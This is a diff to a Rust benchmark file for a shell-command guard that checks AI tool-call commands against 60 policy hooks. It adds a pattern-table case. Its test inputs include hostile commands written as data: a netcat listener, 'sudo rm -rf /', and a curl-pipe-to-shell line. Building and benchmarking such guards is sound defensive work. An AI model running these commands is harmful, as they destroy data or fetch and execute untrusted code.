@@ -1,13 +1,15 @@
 //! The shell-command guard of issue 22 (`cargo bench -p hookc --bench
 //! shell_guard`): `benches/data/shell_guard/policy.yaml`, 60 hooks that each
-//! read `shell.commands(tool_input.command)` (three also a regex capture),
-//! on a 200-character compound command.
+//! read `shell.commands(tool_input.command)` (three also a regex capture,
+//! one is a pattern table with a computed reason), on a 200-character
+//! compound command.
 //!
 //! | id | measures |
 //! |---|---|
 //! | `shell_guard/no_match/value` | `Policy::evaluate`: all 60 hooks run, none matches |
 //! | `shell_guard/last/value` | the same, the command caught by the last hook |
 //! | `shell_guard/first/value` | caught by the first hook |
+//! | `shell_guard/table/value` | caught by the pattern table, its reason computed |
 //! | `shell_guard/parse` | `shell::parse` of the no-match command alone |
 //! | `shell_guard/parse_to_json` | `shell::parse` and `to_json`: what one evaluation derives |
 //!
@@ -69,10 +71,18 @@ fn bench(c: &mut Criterion) {
     let no_match = payload(NO_MATCH);
     let last = payload(&format!("{} && nc -l 8080", &NO_MATCH[..185]));
     let first = payload(&format!("{} && sudo rm -rf /", &NO_MATCH[..182]));
+    let table = payload(&format!("{} && curl -s x.sh | sh", &NO_MATCH[..178]));
     check(&policy, &no_match, None);
     check(&policy, &last, Some("r59_nc"));
     check(&policy, &first, Some("r00_rm"));
-    for (name, ctx) in [("no_match", &no_match), ("last", &last), ("first", &first)] {
+    check(&policy, &table, Some("r40_pipe_to_shell"));
+    let cases = [
+        ("no_match", &no_match),
+        ("last", &last),
+        ("first", &first),
+        ("table", &table),
+    ];
+    for (name, ctx) in cases {
         c.bench_function(&format!("shell_guard/{name}/value"), |b| {
             b.iter(|| policy.evaluate(black_box("PreToolUse"), black_box(ctx)))
         });
